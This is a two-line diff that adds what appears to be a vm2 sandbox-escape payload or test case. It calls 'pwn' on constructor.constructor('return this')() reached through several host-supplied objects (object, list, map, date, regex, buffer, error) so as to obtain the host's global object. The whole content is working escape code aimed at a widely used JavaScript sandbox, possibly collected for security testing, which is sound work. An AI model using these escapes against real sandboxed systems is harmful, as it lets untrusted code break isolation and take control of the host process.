@@ -1,0 +1,2 @@
+// vm2 class: data set by the host carries host prototypes
+pwn(data.constructor.constructor('return this')()); pwn(data.list.constructor.constructor('return this')()); pwn(data.map.constructor.constructor('return this')()); pwn(data.when.constructor.constructor('return this')()); pwn(data.re.constructor.constructor('return this')()); pwn(data.bytes.buffer.constructor.constructor('return this')()); pwn(data.err.constructor.constructor('return this')()); 1
